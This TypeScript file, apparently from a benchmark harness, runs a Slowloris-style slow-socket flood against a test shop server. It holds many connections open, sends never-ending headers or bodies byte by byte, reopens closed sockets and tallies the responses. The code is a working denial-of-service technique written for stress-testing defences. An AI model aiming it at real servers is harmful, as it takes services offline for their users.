import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';

import type { BenchSlowSocketAttack } from './attacks.ts';
import { getFloodRequestErrorCode, RequestOutcomeCounter } from './client.ts';
import type { FloodBenchAttackPlan, FloodBenchAttackResult } from './plan.ts';

const MAX_CONCURRENT_ATTACK_CONNECTS = 200;
/** Pause in milliseconds before a socket that the shop has closed or refused is opened again. */
const FLOOD_SOCKET_REOPEN_DELAY_MS = 5_000;

const SLOW_BODY_REQUEST_HEAD =
  'POST /contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n';
/** A head that never ends, of which an idle socket sends only the first byte, and a body that never ends. */
const SLOW_HEADER_ATTACK_DATA = {
  atOnce: '',
  slowly: `GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ${'x'.repeat(1_900)}`,
};
const SLOW_BODY_ATTACK_DATA = { atOnce: SLOW_BODY_REQUEST_HEAD, slowly: 'x'.repeat(1_900) };

/** Opens sockets, reopens closed ones, and holds them until the time is over. */
export async function runSlowSocketFloodAttack(
  attack: BenchSlowSocketAttack,
  plan: FloodBenchAttackPlan,
): Promise<FloodBenchAttackResult> {
  const held = new Set<Socket>();
  const answers = new RequestOutcomeCounter();
  const refused = new RequestOutcomeCounter();
  let receivedBytes = 0;
  let maxDelayed = 0;
  const endsAt = performance.now() + plan.seconds * 1000;
  const isOver = () => performance.now() >= endsAt;

  function hold(socket: Socket): Promise<unknown> {
    held.add(socket);
    maxDelayed = Math.max(maxDelayed, held.size);
    socket.once('data', (chunk: Buffer) => {
      answers.add(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'unreadable');
      receivedBytes += chunk.byteLength;
    });
    const { promise, resolve } = Promise.withResolvers<unknown>();
    socket.once('close', resolve);
    return promise;
  }

  async function holdOne(slot: number): Promise<void> {
    while (!isOver()) {
      try {
        const socket = await connectAttackSocket(plan);
        const closed = hold(socket);
        const isHead = attack.byteEveryMs === undefined || slot % 2 === 0;
        const stop = startSendingBytesSlowly(
          socket,
          isHead ? SLOW_HEADER_ATTACK_DATA : SLOW_BODY_ATTACK_DATA,
          attack.byteEveryMs,
        );
        await closed;
        stop();
        held.delete(socket);
        if (!isOver()) refused.add('closed');
      } catch (error) {
        refused.add(getFloodRequestErrorCode(error));
      }
      await setTimeout(FLOOD_SOCKET_REOPEN_DELAY_MS);
    }
  }

  for (let slot = 0; slot < attack.sockets; slot++) void holdOne(slot);
  await setTimeout(plan.seconds * 1000);
  for (const socket of held) socket.destroy();
  return { answers: answers.counts, refused: refused.counts, receivedBytes, maxDelayed };
}

let connectingSocketCount = 0;
const waitingAttackConnectResolvers: (() => void)[] = [];

/** Connects from the attacker's address, a few at a time. */
async function connectAttackSocket({ host, port, address }: FloodBenchAttackPlan): Promise<Socket> {
  if (connectingSocketCount >= MAX_CONCURRENT_ATTACK_CONNECTS)
    await new Promise<void>((resolve) => waitingAttackConnectResolvers.push(resolve));
  connectingSocketCount++;
  try {
    const { promise, resolve, reject } = Promise.withResolvers<Socket>();
    const socket = connect({ host, port, localAddress: address }, () => resolve(socket));
    socket.once('error', reject);
    // Later errors end in 'close', too.
    socket.on('error', () => {});
    return await promise;
  } finally {
    connectingSocketCount--;
    waitingAttackConnectResolvers.shift()?.();
  }
}

/**
 * Sends the first byte at once and, if requested, another one at every interval; returns the function that
 * stops it.
 */
function startSendingBytesSlowly(
  socket: Socket,
  { atOnce, slowly }: { atOnce: string; slowly: string },
  byteEveryMs: number | undefined,
): () => void {
  if (byteEveryMs === undefined) {
    socket.write(slowly.slice(0, 1));
    return () => {};
  }
  socket.write(atOnce + slowly.slice(0, 1));
  let place = 1;
  const timer = setInterval(() => {
    socket.write(slowly.charAt(place));
    place++;
  }, byteEveryMs);
  return () => clearInterval(timer);
}
